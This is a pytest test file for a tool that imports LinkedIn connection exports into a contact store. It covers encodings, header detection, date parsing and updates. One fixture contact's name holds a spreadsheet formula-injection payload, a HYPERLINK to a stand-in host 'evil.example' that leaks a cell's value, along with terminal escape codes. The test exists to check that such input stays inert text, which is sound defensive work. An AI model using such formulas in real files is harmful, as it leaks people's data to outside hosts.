from __future__ import annotations

from pathlib import Path

import pytest

from netgoals.core.errors import NetgoalsError
from netgoals.core.models import Source
from netgoals.formats.linkedin import connected_on, parse_linkedin
from netgoals.formats.people import SkipReason, decode, import_contacts, read_file
from netgoals.storage import Store

DATA = Path(__file__).resolve().parent.parent / "data"


def read(name: str) -> str:
    return decode(read_file(DATA / name), name)


def test_the_current_export_with_its_preamble_bom_and_crlf():
    text = read("linkedin_connections.csv")
    assert text.startswith("Notes:")  # the BOM is gone
    parsed = parse_linkedin(text)
    assert parsed.source is Source.LINKEDIN
    rows = {row.line: row.fields for row in parsed.rows}
    assert rows[5] == {
        "name": "Chloé Martin",
        "organization": "Northgate Bank",
        "role": "Graduate Recruitment Lead",
        "email": "chloe.martin@northgate-bank.example",
        "url": "https://www.linkedin.com/in/chloe-martin-4a1b2c",
        "how_met": "LinkedIn, connected 2024-03-15",
    }
    # quoted commas and doubled quotes
    assert rows[6]["organization"] == "Harbour Capital, LLC"
    assert rows[6]["role"] == "Head of Trading, EMEA"
    assert rows[12]["role"] == 'Engineer, "Platform" team'
    assert rows[12]["name"] == "王 小明"
    # a cell over two lines keeps the row's first line, and the next row's line is right
    assert rows[14]["role"] == "Consultant\r\n(fixed income)"
    assert [(s.line, s.reason) for s in parsed.skipped] == [
        (8, SkipReason.EMPTY),  # only commas
        (10, SkipReason.NO_NAME),  # a restricted member: a URL and a date, no name
    ]


def test_an_older_export_without_preamble_or_url_column_in_windows_1252():
    parsed = parse_linkedin(read("linkedin_connections_old.csv"))
    assert [row.fields["name"] for row in parsed.rows] == [
        "Renée Dubois",
        "Bob Smith",
        "Zoë Brontë",
    ]
    renee = parsed.rows[0]
    assert renee.line == 2
    assert renee.fields["organization"] == "Société Générale"
    assert renee.fields["url"] == ""
    assert parsed.rows[1].fields["role"] == "Sales Director – UK"
    assert parsed.rows[2].fields["how_met"] == "LinkedIn, connected 2014-01-01"
    assert [s.line for s in parsed.skipped] == [4]


def test_the_header_row_is_found_wherever_it_is():
    text = (
        "Notes:\n\nSome words, with a comma\nand more\n\n"
        "first name , LAST NAME,Company,Position,Email Address,Connected On,Extra\n"
        "Ada,Lovelace,Engines,Analyst,ada@example.org,10 Dec 2015,ignored\n"
        "Bob\n"
    )
    parsed = parse_linkedin(text)
    assert [(r.line, r.fields["name"]) for r in parsed.rows] == [(7, "Ada Lovelace"), (8, "Bob")]
    assert parsed.rows[0].fields["email"] == "ada@example.org"
    assert parsed.rows[1].fields["organization"] == ""  # a short row is padded, not refused


@pytest.mark.parametrize(
    "text",
    [
        "Name,Email\nAda,ada@example.org\n",
        "First Name,Last Name,Organization Name,Labels\nAda,Lovelace,Engines,\n",
        "just some text",
        "BEGIN:VCARD\nFN:Ada\nEND:VCARD\n",
    ],
)
def test_a_file_that_is_not_linkedin_s_is_refused(text: str):
    with pytest.raises(NetgoalsError, match=r"not a LinkedIn Connections\.csv"):
        parse_linkedin(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("15 Mar 2024", "2024-03-15"),
        ("5 March 2024", "2024-03-05"),
        ("01 Sept 2020", "2020-09-01"),
        ("2024-03-15", "2024-03-15"),
        ("03/15/24", "2024-03-15"),
        ("31 Feb 2024", "31 Feb 2024"),  # not a date: kept as written
        ("", ""),
    ],
)
def test_connected_on_is_read_without_the_locale(text: str, expected: str):
    assert connected_on(text) == expected


def test_importing_the_sample_adds_the_people_and_reports_the_rest(store: Store):
    result = import_contacts(store, parse_linkedin(read("linkedin_connections.csv")))
    assert (result.added, result.updated, len(result.skipped)) == (8, 0, 2)
    assert result.problems() == []
    # what is not an email is kept in the notes, and the row with it
    ngozi = next(c for c in store.contacts() if c.name == "Ngozi Okafor")
    assert (ngozi.email, ngozi.notes) == ("", "Email: ngozi@")
    mallory = next(c for c in store.contacts() if "Mallory" in c.name)
    # markup and formulas stay text; the escape and bell characters are gone
    assert mallory.name == (
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click me") [bold red]Mallory[/] [31mRed'
    )
    assert mallory.organization == "=1+2"
    assert all(c.source is Source.LINKEDIN for c in store.contacts())
    dmitri = next(c for c in store.contacts() if c.name == "Dmitri Ivanov")
    assert dmitri.role == "Consultant (fixed income)"  # one line: a role is short text


def test_reimporting_the_sample_adds_nothing(store: Store):
    parsed = parse_linkedin(read("linkedin_connections.csv"))
    import_contacts(store, parsed)
    stored = store.contacts()
    again = import_contacts(store, parse_linkedin(read("linkedin_connections.csv")))
    assert (again.added, again.updated) == (0, 0)
    assert again.count(SkipReason.UP_TO_DATE) == 8
    assert store.contacts() == stored


def test_a_newer_export_updates_people_who_changed_jobs(store: Store):
    header = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
    import_contacts(
        store,
        parse_linkedin(
            header + "Ada,Lovelace,https://www.linkedin.com/in/ada,,Engines,Analyst,1 Jan 2020\n"
        ),
    )
    result = import_contacts(
        store,
        parse_linkedin(
            header
            + "Ada,Lovelace,https://www.linkedin.com/in/ada/,,Northgate Bank,Trader,1 Jan 2020\n"
        ),
    )
    assert result.updated == 1
    ada = store.contacts()[0]
    assert (ada.organization, ada.role) == ("Northgate Bank", "Trader")
    assert ada.how_met == "LinkedIn, connected 2020-01-01"
